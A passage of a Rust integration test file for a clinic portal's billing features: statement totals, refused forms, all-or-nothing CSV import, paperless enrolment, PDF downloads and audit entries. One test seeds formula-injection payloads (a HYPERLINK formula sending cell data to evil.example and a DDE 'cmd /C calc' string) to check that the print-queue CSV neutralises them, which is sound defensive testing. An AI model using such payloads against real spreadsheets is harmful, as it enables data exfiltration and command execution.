    assert_eq!(r.location(), Some("/staff/billing/print-queue?printed=2"), "{}", r.body);
    let queue = print_queue(&billing).await;
    assert_eq!(queue.iter().map(|i| i.0.as_str()).collect::<Vec<_>>(), [later.as_str()], "the later one stays");
    for id in [&dora_statement, &first] {
        let by: Option<String> = sqlx::query_scalar("SELECT printed_by FROM statements WHERE id = $1 AND printed_at IS NOT NULL")
            .bind(id)
            .fetch_optional(&portal.state.db.pool)
            .await
            .unwrap()
            .flatten();
        assert_eq!(by.as_deref(), Some(billing_user.as_str()), "{id} marked printed by billing");
    }
    assert_eq!(count_with(&portal, "SELECT COUNT(*) FROM statements WHERE id = $1 AND printed_at IS NULL", &later).await, 1);
    assert_eq!(audit_of(&portal, "billing.statements-printed").await, [(Some(billing_user.clone()), None, Some("2 statements".into()))]);
    // Marking the same batch again marks nothing and records nothing.
    let r = billing.post_form("/api/staff/billing/printed", &[("until", &until.to_string())]).await;
    assert_eq!(r.location(), Some("/staff/billing/print-queue?printed=0"));
    assert_eq!(audit_of(&portal, "billing.statements-printed").await.len(), 1);
    assert_eq!(csv_statement_ids(&billing.get("/staff/billing/print-queue.csv").await.body), std::slice::from_ref(&later));
    portal.stop().await;
}

/// The totals are computed: the previous balance is the amount due of the account's latest
/// statement, each kind of line is summed apart, and the lines are stored in their order.
async fn totals_carry_the_previous_balance(backend: Backend) {
    let portal = TestPortal::start(backend).await;
    let (account, number) = account_of(&portal, ALICE).await;
    let billing = signed_in(&portal, "billing", "staff").await;
    let demo_latest = statements_of(&portal, &account).await.pop().unwrap();
    assert_eq!(totals_of(&portal, &demo_latest).await.0 .4, 20_005, "the demo clinic's balance of $200.05");

    // 200.05 + 180.00 + 45.10 - 95.05 - 30.00 + 0.01 = 300.11
    let mut form = monthly(2, ("charge", "Family Medicine", "Office visit, established patient", "180.00"), "300.11");
    form.lines = vec![
        line("2090-01-03", "charge", "Family Medicine", "Office visit, established patient", "180.00"),
        line("2090-01-03", "charge", "Laboratory", "Lipid panel", "45.10"),
        line("2090-01-20", "adjustment", "Family Medicine", "Insurance contractual adjustment", "-95.05"),
        line("2090-01-28", "payment", "Family Medicine", "Payment, thank you", "-30.00"),
        line("2090-01-29", "adjustment", "Laboratory", "Rounding", "0.01"),
    ];
    let r = post(&billing, &account, &form).await;
    assert_eq!(r.location(), Some(format!("/staff/billing/accounts/{account}?posted=notified").as_str()), "{}", r.body);
    let first = statements_of(&portal, &account).await.pop().unwrap();
    assert_eq!(totals_of(&portal, &first).await.0, (20_005, 22_510, -3_000, -9_504, 30_011));
    let lines: Vec<(i64, String, String, String, String, i64)> =
        sqlx::query("SELECT position, kind, line_date, department, description, amount FROM statement_lines WHERE statement_id = $1 ORDER BY position")
            .bind(&first)
            .fetch_all(&portal.state.db.pool)
            .await
            .unwrap()
            .iter()
            .map(|r| (r.get("position"), r.get("kind"), r.get("line_date"), r.get("department"), r.get("description"), r.get("amount")))
            .collect();
    let want: Vec<(i64, String, String, String, String, i64)> = [
        (0, "charge", "2090-01-03", "Family Medicine", "Office visit, established patient", 18_000),
        (1, "charge", "2090-01-03", "Laboratory", "Lipid panel", 4_510),
        (2, "adjustment", "2090-01-20", "Family Medicine", "Insurance contractual adjustment", -9_505),
        (3, "payment", "2090-01-28", "Family Medicine", "Payment, thank you", -3_000),
        (4, "adjustment", "2090-01-29", "Laboratory", "Rounding", 1),
    ]
    .into_iter()
    .map(|(p, k, d, dep, desc, a)| (p, k.into(), d.into(), dep.into(), desc.into(), a))
    .collect();
    assert_eq!(lines, want);

    // The next one starts from it; paying it all leaves nothing due, then a credit.
    let r = post(&billing, &account, &monthly(3, ("payment", "Family Medicine", "Payment, thank you", "-300.11"), "0.00")).await;
    assert!(r.location().unwrap_or_default().ends_with("?posted=notified"), "{:?}: {}", r.location(), r.body);
    let second = statements_of(&portal, &account).await.pop().unwrap();
    assert_eq!(totals_of(&portal, &second).await.0, (30_011, 0, -30_011, 0, 0));
    let r = post(&billing, &account, &monthly(4, ("adjustment", "Family Medicine", "Refund due", "-20.00"), "-20.00")).await;
    assert!(r.location().unwrap_or_default().ends_with("?posted=notified"), "{:?}: {}", r.location(), r.body);
    let third = statements_of(&portal, &account).await.pop().unwrap();
    assert_eq!(totals_of(&portal, &third).await.0, (0, 0, 0, -2_000, -2_000));

    // The patient's summary shows the latest amount due; the first statement's PDF its totals.
    let alice = signed_in(&portal, "alice", "patient").await;
    let summary: Vec<app::billing::AccountSummary> = serde_json::from_str(&alice.call("/api/billing/accounts").await.body).unwrap();
    assert_eq!(summary.len(), 1);
    assert_eq!((summary[0].number.as_str(), summary[0].balance.cents()), (number.as_str(), -2_000));
    let (status, _, bytes) = download(&alice, &format!("/billing/statements/{first}.pdf")).await;
    assert_eq!(status, 200);
    let pdf = pdf_text(&bytes);
    for expected in [number.as_str(), "$200.05", "$225.10", "-$30.00", "-$95.04", "$300.11", "Lipid panel", "Rounding"] {
        assert!(pdf.contains(expected), "{expected:?} not in:\n{pdf}");
    }
    portal.stop().await;
}

/// A statement that breaks a rule (lines not adding up, dated before the account's latest, a
/// line outside its period, a date that is not one) stores nothing and sends nothing; the form
/// page shows why and what was typed, kept in the database and not in the URL. Posting it right
/// clears what was kept.
async fn a_refused_statement_stores_nothing_and_keeps_the_form(backend: Backend) {
    let portal = TestPortal::start(backend).await;
    let (account, _) = account_of(&portal, ALICE).await;
    let billing = signed_in(&portal, "billing", "staff").await;
    let billing_user = user_id(&portal, "billing").await;
    let form_page = format!("/staff/billing/accounts/{account}/statement");
    let refused_to = format!("{form_page}?refused=1");
    let p = &portal;
    let stored = move || async move {
        let portal = p;
        (
            count(portal, "SELECT COUNT(*) FROM statements").await,
            count(portal, "SELECT COUNT(*) FROM statement_lines").await,
            count(portal, "SELECT COUNT(*) FROM outbox").await,
            count(portal, "SELECT COUNT(*) FROM audit_log WHERE action = 'billing.statement-posted'").await,
        )
    };
    let before = stored().await;
    let (user, key) = (&billing_user, format!("statement:{account}"));
    let key = &key;
    let draft = move || async move {
        sqlx::query("SELECT fields, message FROM billing_drafts WHERE user_id = $1 AND form = $2")
            .bind(user)
            .bind(key)
            .fetch_optional(&p.state.db.pool)
            .await
            .unwrap()
            .map(|r| (r.get::<String, _>("fields"), r.get::<Option<String>, _>("message")))
    };

    // The lines do not add up: the previous balance of $200.05 was forgotten.
    let wrong = monthly(2, ("charge", "Cardiology", "Echocardiogram", "300.00"), "300.00");
    let r = post(&billing, &account, &wrong).await;
    assert_eq!(r.location(), Some(refused_to.as_str()), "nothing typed travels in the URL: {}", r.body);
    assert_eq!(stored().await, before, "nothing stored, nothing sent");
    let reason = "The lines add up to an amount due of $500.05, not $300.00: check the lines and the previous balance of $200.05.";
    let (fields, message) = draft().await.expect("the typed form is kept");
    assert_eq!(message.as_deref(), Some(reason));
    for typed in ["Echocardiogram", "Cardiology", "300.00", "2090-02-01", "2090-01-10"] {
        assert!(fields.contains(typed), "{typed} kept in {fields}");
    }
    let page = billing.get(&refused_to).await;
    assert_eq!(page.status, 200);
    assert!(page.body.contains(reason), "{}", page.body);
    for typed in
        ["value=\"Echocardiogram\"", "value=\"Cardiology\"", "value=\"300.00\"", "value=\"2090-02-01\"", "value=\"2090-01-31\"", "value=\"2090-01-10\""]
    {
        assert!(page.body.contains(typed), "the page shows {typed}");
    }

    // Dated on the account's latest statement: out of order, whatever the lines.
    let latest: String = text(&portal, "SELECT MAX(statement_date) FROM statements WHERE account_id = $1", &account).await;
    let long = app::dates::CalendarDate::parse(&latest).unwrap().long();
    let same_day = Form {
        date: latest.clone(),
        from: latest.clone(),
        to: latest.clone(),
        due: latest.clone(),
        lines: vec![line(&latest, "charge", "Radiology", "X-ray", "10.00")],
        amount_due: "210.05".into(),
    };
    let r = post(&billing, &account, &same_day).await;
    assert_eq!(r.location(), Some(refused_to.as_str()));
    assert_eq!(stored().await, before);
    let reason = format!("This account already has a statement dated {long} or later: statements are posted in date order.");
    assert_eq!(draft().await.unwrap().1.as_deref(), Some(reason.as_str()));
    assert!(billing.get(&refused_to).await.body.contains(&reason));

    // A line outside the period, named by its row on the form (the blank row 1 is left out).
    let mut outside = monthly(2, ("charge", "Radiology", "X-ray", "10.00"), "210.05");
    outside.lines = vec![line("", "charge", "", "", ""), line("2090-02-03", "charge", "Radiology", "X-ray", "10.00")];
    let r = post(&billing, &account, &outside).await;
    assert_eq!(r.location(), Some(refused_to.as_str()));
    assert_eq!(stored().await, before);
    assert_eq!(draft().await.unwrap().1.as_deref(), Some("Line 2: the date must be within the statement's period."));

    // Not a date.
    let mut undated = monthly(2, ("charge", "Radiology", "X-ray", "10.00"), "210.05");
    undated.date = "the first".into();
    let r = post(&billing, &account, &undated).await;
    assert_eq!(r.location(), Some(refused_to.as_str()));
    assert_eq!(stored().await, before);
    assert_eq!(draft().await.unwrap().1.as_deref(), Some("Statement date: enter a date like 2026-11-01."));
    assert!(billing.get(&refused_to).await.body.contains("value=\"the first\""), "kept as typed");

    // Right: posted, and what was kept is gone.
    let right = monthly(2, ("charge", "Cardiology", "Echocardiogram", "300.00"), "500.05");
    let r = post(&billing, &account, &right).await;
    assert_eq!(r.location(), Some(format!("/staff/billing/accounts/{account}?posted=notified").as_str()), "{}", r.body);
    assert_eq!(stored().await, (before.0 + 1, before.1 + 1, before.2 + 1, before.3 + 1));
    assert_eq!(draft().await, None);
    let page = billing.get(&form_page).await;
    assert!(!page.body.contains("Echocardiogram"), "the form is blank again");
    portal.stop().await;
}

// ---------------------------------------------------------------------------------------------
// CSV import

const HEADER: &str = "account_number,statement_date,period_start,period_end,due_date,amount_due,line_date,kind,department,description,amount";

/// A good file: four statements (Alice's February and March, Robert's, Carol's), six lines.
/// Rows as an editor numbers them: the header is row 1.
fn good_file(alice: &str, robert: &str, carol: &str) -> String {
    [
        HEADER.to_string(),
        format!("{alice},2090-02-01,2090-01-01,2090-01-31,2090-02-25,245.05,2090-01-05,charge,Laboratory,Lipid panel,30.00"), // row 2
        format!("{alice},2090-02-01,2090-01-01,2090-01-31,2090-02-25,245.05,2090-01-09,charge,Radiology,\"X-ray, hand\",15.00"), // row 3
        format!("{robert},2090-02-01,2090-01-01,2090-01-31,2090-02-25,170.00,2090-01-09,charge,Radiology,X-ray,20.00"),       // row 4
        format!("{carol},2090-02-01,2090-01-01,2090-01-31,2090-02-25,180.00,2090-01-12,charge,Family Medicine,Office visit,40.00"), // row 5
        format!("{carol},2090-02-01,2090-01-01,2090-01-31,2090-02-25,180.00,2090-01-20,payment,Family Medicine,\"Payment, thank you\",-10.00"), // row 6
        format!("{alice},2090-03-01,2090-02-01,2090-02-28,2090-03-25,225.05,2090-02-03,payment,Family Medicine,Payment,-20.00"), // row 7
    ]
    .join("\n")
        + "\n"
}

/// A file whose later statement is bad imports nothing (no statement, line, notice, audit
/// entry), and the import page names the row and the reason; the good file then imports every
/// statement, notices for the paperless accounts, the print queue for the paper one.
async fn imports_are_all_or_nothing(backend: Backend) {
    let portal = TestPortal::start(backend).await;
    let (alice_account, alice) = account_of(&portal, ALICE).await;
    let (robert_account, robert) = account_of(&portal, ROBERT).await;
    let (carol_account, carol) = account_of(&portal, CAROL).await;
    let billing = signed_in(&portal, "billing", "staff").await;
    // Carol has paper statements.
    assert_eq!(billing.post_form("/api/staff/billing/delivery", &[("account", &carol_account), ("delivery", "paper")]).await.status, 302);
    let before = billing_state(&portal).await;
    let queue_before = print_queue(&billing).await;

    let good = good_file(&alice, &robert, &carol);
    let row = |n: usize| good.lines().nth(n - 1).unwrap().to_string();
    let with_row = |n: usize, new: String| good.replacen(&row(n), &new, 1);
    let bad_files = [
        // The last statement's account does not exist (every earlier one would post).
        (with_row(7, row(7).replacen(&alice, "G999999999", 1)), "Row 7: there is no billing account G999999999"),
        // Carol's lines add up to 180.00 from her 150.00, not 250.00 (rows 5 and 6 agree).
        (
            good.replace(",180.00,", ",250.00,"),
            "Row 5: the lines add up to an amount due of $180.00, not $250.00: check the lines and the previous balance of $150.00.",
        ),
        // A bad amount in the last row.
        (with_row(7, row(7).replace(",-20.00", ",-2O.00")), "Row 7: amount \"-2O.00\" is not an amount: write it like 125.00 or -25.50"),
        // The last statement is dated before Alice's February one in the same file.
        (
            with_row(
                7,
                row(7)
                    .replace("2090-03-01,2090-02-01,2090-02-28,2090-03-25", "2090-01-15,2089-12-01,2089-12-31,2090-01-25")
                    .replace("2090-02-03", "2089-12-03"),
            ),
            &format!("Row 7: account {alice} already has a statement dated February 1, 2090 or later"),
        ),
        // A blank line counts as a row, as an editor shows it: the bad amount is then on row 8.
        (with_row(4, format!("{}\n", row(4))).replace(",-20.00", ",-2O.00"), "Row 8: amount \"-2O.00\" is not an amount: write it like 125.00 or -25.50"),
    ];
    for (file, reason) in &bad_files {
        let r = import(&billing, file).await;
        assert_eq!(r.location(), Some("/staff/billing/import?refused=1"), "{reason}: {}", r.body);
        let page = billing.get("/staff/billing/import?refused=1").await;
        assert_eq!(page.status, 200);
        assert!(page.body.contains(&format!("Nothing was imported. {reason}")), "{reason}:\n{}", page.body);
        let mut after = billing_state(&portal).await;
        // The refusal is kept for the page to show: one draft row.
        let drafts_at = after.iter().position(|l| l == "drafts 1").expect("the reason is kept");
        after[drafts_at] = "drafts 0".into();
        assert_eq!(after, before, "nothing imported for {reason}");
    }
    assert_eq!(print_queue(&billing).await, queue_before);
    assert!(audit_of(&portal, "billing.statements-imported").await.is_empty());

    // The good file: everything, routed by each account's delivery.
    let lines_before = count(&portal, "SELECT COUNT(*) FROM statement_lines").await;
    let outbox_before = count(&portal, "SELECT COUNT(*) FROM outbox").await;
    let r = import(&billing, &good).await;
    assert_eq!(r.location(), Some("/staff/billing/import?statements=4&lines=6&notified=3&paper=1"), "{}", r.body);
    let page = billing.get("/staff/billing/import?statements=4&lines=6&notified=3&paper=1").await;
    assert!(page.body.contains("Imported 4 statements with 6 lines: 3 patients notified (paperless), 1 statements in the print queue (paper)."));
    assert!(!page.body.contains("Nothing was imported"), "the old refusal is not shown");
    let alice_statements = statements_of(&portal, &alice_account).await;
    let robert_statements = statements_of(&portal, &robert_account).await;
    let carol_statements = statements_of(&portal, &carol_account).await;
    assert_eq!((alice_statements.len(), robert_statements.len(), carol_statements.len()), (4, 2, 2));
    assert_eq!(totals_of(&portal, &alice_statements[2]).await, ((20_005, 4_500, 0, 0, 24_505), "paperless".into()));
    assert_eq!(totals_of(&portal, &alice_statements[3]).await, ((24_505, 0, -2_000, 0, 22_505), "paperless".into()));
    assert_eq!(totals_of(&portal, &robert_statements[1]).await, ((15_000, 2_000, 0, 0, 17_000), "paperless".into()));
    assert_eq!(totals_of(&portal, &carol_statements[1]).await, ((15_000, 4_000, -1_000, 0, 18_000), "paper".into()));
    assert_eq!(count(&portal, "SELECT COUNT(*) FROM statement_lines").await, lines_before + 6);
    let description: String = text(&portal, "SELECT description FROM statement_lines WHERE statement_id = $1 AND position = 1", &alice_statements[2]).await;
    assert_eq!(description, "X-ray, hand", "a quoted field with a comma");

    // Notices: Alice's two statements and Robert's; none for Carol's paper statement.
    assert_eq!(count(&portal, "SELECT COUNT(*) FROM outbox").await, outbox_before + 3);
    let mut recipients: Vec<String> =
        sqlx::query_scalar("SELECT recipient FROM outbox WHERE notice = 'new-statement'").fetch_all(&portal.state.db.pool).await.unwrap();
    recipients.sort();
    assert_eq!(recipients, ["alice.johnson@example.org", "alice.johnson@example.org", "robert.smith@example.org"]);
    // The print queue: what was there, and Carol's.
    let queue = print_queue(&billing).await;
    let mut want: Vec<String> = queue_before.iter().map(|i| i.0.clone()).collect();
    want.push(carol_statements[1].clone());
    assert_eq!(queue.iter().map(|i| i.0.clone()).collect::<Vec<_>>(), want);
    assert_eq!(queue.last().unwrap().2, "$180.00");
    let billing_user = user_id(&portal, "billing").await;
    assert_eq!(audit_of(&portal, "billing.statements-imported").await, [(Some(billing_user), None, Some("4 statements".into()))]);

    // The same file again: out of order at its first statement, nothing imported.
    let statements = count(&portal, "SELECT COUNT(*) FROM statements").await;
    assert_eq!(import(&billing, &good).await.location(), Some("/staff/billing/import?refused=1"));
    let page = billing.get("/staff/billing/import?refused=1").await;
    assert!(page.body.contains(&format!("Nothing was imported. Row 2: account {alice} already has a statement dated March 1, 2090 or later")), "{}", page.body);
    assert_eq!(count(&portal, "SELECT COUNT(*) FROM statements").await, statements);
    portal.stop().await;
}

// ---------------------------------------------------------------------------------------------
// Enrolment

/// SPEC R-BIL-1: a patient whose accounts are on paper (one from the demo clinic, one just opened
/// by billing staff) signs up; every account becomes paperless, recorded as by enrolment, the
/// patient's record too; what was posted on paper stays in the print queue, and the next
/// statement raises a notice.
async fn signing_up_makes_existing_accounts_paperless(backend: Backend) {
    use crate::enrolment::{complete, issue_code, staff, verify, STRONG_PASSWORD};
    let portal = TestPortal::start(backend).await;
    let dora = patient_of(&portal, DORA).await;
    let (demo_account, _) = account_of(&portal, DORA).await;
    let billing = signed_in(&portal, "billing", "staff").await;

    // Billing staff open a second account: it starts on paper, as the patient's record says.
    let r = billing.post_form("/api/staff/billing/open", &[("patient", &dora), ("address", "301 Maple Court\r\nRiverside, ST 00000")]).await;
    let to = r.location().unwrap_or_default().to_string();
    let opened = to
        .strip_prefix("/staff/billing/accounts/")
        .and_then(|t| t.strip_suffix("?opened=1"))
        .unwrap_or_else(|| panic!("to the new account: {to} {}", r.body))
        .to_string();
    let delivery = |id: String| {
        let portal = &portal;
        async move { text(portal, "SELECT delivery FROM billing_accounts WHERE id = $1", &id).await }
    };
    assert_eq!(delivery(opened.clone()).await, "paper");
    assert_eq!(delivery(demo_account.clone()).await, "paper");
    let r = post(&billing, &opened, &monthly(2, ("charge", "Family Medicine", "Office visit, new patient", "95.00"), "95.00")).await;
    assert_eq!(r.location(), Some(format!("/staff/billing/accounts/{opened}?posted=print-queue").as_str()), "{}", r.body);
    let on_paper = count(&portal, "SELECT COUNT(*) FROM statements WHERE delivery = 'paper' AND printed_at IS NULL").await;
    assert_eq!(on_paper, 2, "the demo clinic's and the new one");

    let desk = staff(&portal, "frontdesk").await;
    let code = issue_code(&desk, &dora).await;
    let browser = portal.client();
    assert_eq!(verify(&browser, &code, "1952-06-18").await.location(), Some("/activate/account"));
    let done = complete(&browser, "dora.martinez", STRONG_PASSWORD, "dora.martinez@example.org", true).await;
    assert_eq!(done.location(), Some("/home?welcome=1"), "{}", done.body);
    let dora_user = user_id(&portal, "dora.martinez").await;

    for account in [&demo_account, &opened] {
        assert_eq!(delivery(account.clone()).await, "paperless");
        assert_eq!(changes_of(&portal, account).await, [change("enrolment", "paper", "paperless", &dora_user)]);
    }
    assert_eq!(text(&portal, "SELECT statement_delivery FROM patients WHERE id = $1", &dora).await, "paperless");
    assert_eq!(
        count(&portal, "SELECT COUNT(*) FROM statements WHERE delivery = 'paper' AND printed_at IS NULL").await,
        2,
        "posted on paper: still to be mailed"
    );
    let page = browser.get(&format!("/billing/accounts/{opened}")).await;
    assert_eq!(page.status, 200);
    assert!(page.body.contains("paper → paperless (Portal sign-up)"), "{}", page.body);

    // The next statement is paperless: a notice, not the print queue.
    let r = post(&billing, &opened, &monthly(3, ("charge", "Family Medicine", "Follow-up visit", "25.00"), "120.00")).await;
    assert_eq!(r.location(), Some(format!("/staff/billing/accounts/{opened}?posted=notified").as_str()), "{}", r.body);
    assert_eq!(count_with(&portal, "SELECT COUNT(*) FROM outbox WHERE notice = 'new-statement' AND recipient = $1", "dora.martinez@example.org").await, 1);
    mail_to(&portal, "dora.martinez@example.org", "new billing statement", 20).await;
    assert_eq!(count(&portal, "SELECT COUNT(*) FROM statements WHERE delivery = 'paper' AND printed_at IS NULL").await, 2);
    portal.stop().await;
}

// ---------------------------------------------------------------------------------------------
// The PDF and the audit trail

/// The statement PDF is an attachment, never stored by the browser, and reads back: the account
/// number, the guarantor, the lines and the amount due.
async fn the_pdf_is_an_attachment_that_reads_back(backend: Backend) {
    let portal = TestPortal::start(backend).await;
    let (account, number) = account_of(&portal, ALICE).await;
    let latest = statements_of(&portal, &account).await.pop().unwrap();
    let date = text(&portal, "SELECT statement_date FROM statements WHERE id = $1", &latest).await;
    let alice = signed_in(&portal, "alice", "patient").await;
    let billing = signed_in(&portal, "billing", "staff").await;
    for (who, c, path) in
        [("alice", &alice, format!("/billing/statements/{latest}.pdf")), ("billing", &billing, format!("/staff/billing/statements/{latest}.pdf"))]
    {
        let (status, headers, bytes) = download(c, &path).await;
        assert_eq!(status, 200, "{who}");
        assert_eq!(header(&headers, "content-type"), "application/pdf", "{who}");
        assert_eq!(header(&headers, "content-disposition"), format!("attachment; filename=\"statement-{number}-{date}.pdf\""), "{who}");
        assert!(header(&headers, "cache-control").contains("no-store"), "{who}: {:?}", headers.get("cache-control"));
        assert!(bytes.starts_with(b"%PDF-"), "{who}: a PDF, not {:?}", String::from_utf8_lossy(&bytes[..bytes.len().min(16)]));
        let text = pdf_text(&bytes);
        for expected in
            [number.as_str(), "$200.05", "Alice Johnson", "12 Elm Street", "X-ray, chest, two views", "Payment, thank you", "Test Clinic", "1 Test Street"]
        {
            assert!(text.contains(expected), "{who}: {expected:?} not in:\n{text}");
        }
    }
    portal.stop().await;
}

/// Every statement download is audited, one entry per statement (the print queue PDF too), by
/// whom; staff views of an account are audited, a patient's view of their own is not; refused
/// downloads leave nothing.
async fn views_and_downloads_are_audited(backend: Backend) {
    let portal = TestPortal::start(backend).await;
    let (alice_account, _) = account_of(&portal, ALICE).await;
    let (robert_account, _) = account_of(&portal, ROBERT).await;
    let (dora_account, _) = account_of(&portal, DORA).await;
    let alice_statements = statements_of(&portal, &alice_account).await;
    let robert_statements = statements_of(&portal, &robert_account).await;
    let dora_statement = statements_of(&portal, &dora_account).await.pop().unwrap();
    let robert_user = user_id(&portal, "robert").await;
    let billing_user = user_id(&portal, "billing").await;
    let downloaded = || audit_of(&portal, "billing.statement-downloaded");
    let viewed = || audit_of(&portal, "billing.account-viewed");
    assert!(downloaded().await.is_empty() && viewed().await.is_empty());

    let robert = signed_in(&portal, "robert", "patient").await;
    assert_eq!(robert.get(&format!("/billing/statements/{}.pdf", robert_statements[0])).await.status, 200);
    assert_eq!(robert.get(&format!("/billing/statements/{}.pdf", alice_statements[0])).await.status, 404);
    assert_eq!(robert.call_form("/api/billing/account", &[("id", &robert_account)]).await.status, 200);
    assert_eq!(robert.get(&format!("/billing/accounts/{robert_account}")).await.status, 200);
    let entry = |actor: &str, record: &str| (Some(actor.to_string()), Some(record.to_string()), None::<String>);
    assert_eq!(downloaded().await, [entry(&robert_user, &robert_statements[0])], "his download only");
    assert!(viewed().await.is_empty(), "a patient's view of their own account is not audited");
    let record_type: String = text(&portal, "SELECT record_type FROM audit_log WHERE action = $1", "billing.statement-downloaded").await;
    assert_eq!(record_type, "statement");

    let billing = signed_in(&portal, "billing", "staff").await;
    for id in &alice_statements {
        assert_eq!(billing.get(&format!("/staff/billing/statements/{id}.pdf")).await.status, 200);
    }
    assert_eq!(billing.call_form("/api/staff/billing/account", &[("id", &alice_account)]).await.status, 200);
    assert_eq!(billing.get(&format!("/staff/billing/accounts/{robert_account}")).await.status, 200);
    assert_eq!(billing.get("/staff/billing/print-queue.pdf").await.status, 200);
    assert_eq!(
        downloaded().await,
        [
            entry(&robert_user, &robert_statements[0]),
            entry(&billing_user, &alice_statements[0]),
            entry(&billing_user, &alice_statements[1]),
            entry(&billing_user, &dora_statement),
        ]
    );
    assert_eq!(viewed().await, [entry(&billing_user, &alice_account), entry(&billing_user, &robert_account)]);
    assert_eq!(billing.get("/staff/billing/print-queue.csv").await.status, 200);
    assert_eq!(audit_of(&portal, "billing.print-queue-exported").await, [(Some(billing_user.clone()), None, Some("csv".into()))]);
    portal.stop().await;
}

on_both_databases!(
    a_patient_reaches_only_their_own,
    only_billing_staff_reach_the_staff_side,
    paperless_changes_are_recorded_and_audited,
    a_paperless_statement_sends_a_notice_without_details,
    a_paper_statement_waits_in_the_print_queue,
    totals_carry_the_previous_balance,
    a_refused_statement_stores_nothing_and_keeps_the_form,
    imports_are_all_or_nothing,
    signing_up_makes_existing_accounts_paperless,
    the_pdf_is_an_attachment_that_reads_back,
    views_and_downloads_are_audited,
    a_statement_nobody_can_be_told_of_is_mailed,
    print_queue_csv_cells_never_run_as_formulas,
    the_print_queue_is_paged_and_every_statement_is_on_one_page,
);

/// Issue 14, point 9: the print queue's CSV is opened in spreadsheets, and names and addresses
/// come from people (a record's name, an address typed at the desk). A cell that begins with
/// `=`, `+`, `-`, `@`, a tab or a carriage return is written as text (a leading apostrophe);
/// amounts stay numbers.
async fn print_queue_csv_cells_never_run_as_formulas(backend: Backend) {
    let portal = TestPortal::start(backend).await;
    let (dora_account, dora_number) = account_of(&portal, DORA).await;
    sqlx::query("UPDATE patients SET given_name = $1 WHERE mrn = $2")
        .bind("=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")")
        .bind(DORA)
        .execute(&portal.state.db.pool)
        .await
        .unwrap();
    sqlx::query("UPDATE billing_accounts SET mailing_address = $1 WHERE id = $2")
        .bind("@SUM(1+1)*cmd|' /C calc'!A0\n301 Maple Court")
        .bind(&dora_account)
        .execute(&portal.state.db.pool)
        .await
        .unwrap();
    let billing = signed_in(&portal, "billing", "staff").await;
    let csv = billing.get("/staff/billing/print-queue.csv").await;
    assert_eq!(csv.status, 200);
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.body.as_bytes());
    let row = reader.records().map(Result::unwrap).find(|r| r.get(0) == Some(dora_number.as_str())).expect("Dora's statement is queued");
    assert_eq!(row.get(1), Some("'=HYPERLINK(\"http://evil.example/\"&A1,\"Click\") Martinez"));
    assert_eq!(row.get(2), Some("'@SUM(1+1)*cmd|' /C calc'!A0, 301 Maple Court"));
    assert_eq!(row.get(4), Some("210.00"), "the amount is still a number");
    for cell in row.iter() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
    }
    portal.stop().await;
}

/// PostgreSQL only: on SQLite the holding transaction below would hold the one write lock and
/// the test's own second posting would wait for it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn postgres_mark_printed_covers_only_what_was_listed() {
    if crate::support::postgres_admin_url().is_none() {
        return;
    }
    mark_printed_covers_only_what_was_listed(Backend::Postgres).await
}

/// A statement on a paperless account whose guarantor cannot be reached in the portal (access
/// ended; or never enrolled, with billing staff having set the account paperless) is mailed: it
/// joins the print queue rather than reaching nobody.
async fn a_statement_nobody_can_be_told_of_is_mailed(backend: Backend) {
    use crate::enrolment::staff;
    let portal = TestPortal::start(backend).await;
    let (robert_account, _) = account_of(&portal, ROBERT).await;
    let (dora_account, _) = account_of(&portal, DORA).await;
    let robert = patient_of(&portal, ROBERT).await;
    let desk = staff(&portal, "frontdesk").await;
    let r = desk.post_form("/api/access/terminate", &[("patient_id", &robert), ("reason", "Moved away")]).await;
    assert_eq!(r.status, 302, "{}", r.body);
    assert_eq!(text(&portal, "SELECT access FROM users WHERE login = $1", "robert").await, "terminated");
    let billing = signed_in(&portal, "billing", "staff").await;
    // Dora has no portal account; she asked the billing office for paperless statements.
    assert_eq!(billing.post_form("/api/staff/billing/delivery", &[("account", &dora_account), ("delivery", "paperless")]).await.status, 302);

    let mut lost = Vec::new();
    for (who, account, form) in [
        ("Robert (access ended)", &robert_account, monthly(2, ("charge", "Radiology", "X-ray", "20.00"), "170.00")),
        ("Dora (no portal account)", &dora_account, monthly(2, ("charge", "Family Medicine", "Office visit", "20.00"), "230.00")),
    ] {
        let outbox = count(&portal, "SELECT COUNT(*) FROM outbox").await;
        let r = post(&billing, account, &form).await;
        assert_eq!(r.status, 302, "{}", r.body);
        let statement = statements_of(&portal, account).await.pop().unwrap();
        let noticed = count(&portal, "SELECT COUNT(*) FROM outbox").await > outbox;
        let queued = print_queue(&billing).await.iter().any(|i| i.0 == statement);
        if !noticed && !queued {
            lost.push(format!("{who}: no notice, not in the print queue; staff were sent to {:?}", r.location()));
        }
    }
    assert!(lost.is_empty(), "statements that reach nobody:\n{}", lost.join("\n"));
    portal.stop().await;
}

/// *Mark printed* marks only statements the print queue page listed, even one whose posting began
/// before the page was listed and committed after it (waiting on the account's row lock here; in
/// practice a long CSV import, whose statements all carry the import's start time as
/// `posted_at`). It was once marked by `posted_at <= until` and such a statement was marked
/// printed unseen (PostgreSQL; SQLite serialises writers); places in the queue are now given in
/// commit order (`take_queue_positions`).
async fn mark_printed_covers_only_what_was_listed(backend: Backend) {
    let portal = TestPortal::start(backend).await;
    let (carol_account, _) = account_of(&portal, CAROL).await;
    let (dora_account, _) = account_of(&portal, DORA).await;
    let billing = signed_in(&portal, "billing", "staff").await;
    assert_eq!(billing.post_form("/api/staff/billing/delivery", &[("account", &carol_account), ("delivery", "paper")]).await.status, 302);

    // Another transaction holds Carol's account while a clerk posts her statement.
    let mut holder = portal.state.db.pool.begin().await.unwrap();
    sqlx::query("UPDATE billing_accounts SET id = id WHERE id = $1").bind(&carol_account).execute(&mut *holder).await.unwrap();
    let clerk = Client { http: billing.http.clone(), base: billing.base.clone(), jar: billing.jar.clone() };
    let account = carol_account.clone();
    let slow = tokio::spawn(async move { post(&clerk, &account, &monthly(2, ("charge", "Family Medicine", "Office visit", "40.00"), "190.00")).await });
    tokio::time::sleep(Duration::from_millis(500)).await;
    // Meanwhile another statement is posted, and the print queue page is listed.
    let r = post(&billing, &dora_account, &monthly(2, ("charge", "Family Medicine", "Office visit", "20.00"), "230.00")).await;
    assert!(r.location().unwrap_or_default().ends_with("?posted=print-queue"), "{:?}", r.location());
    let listed = print_queue(&billing).await;
    let until = listed.iter().map(|i| i.3).max().unwrap();
    assert_eq!(listed.len(), 2, "Dora's two statements");
    holder.rollback().await.unwrap();
    let r = slow.await.unwrap();
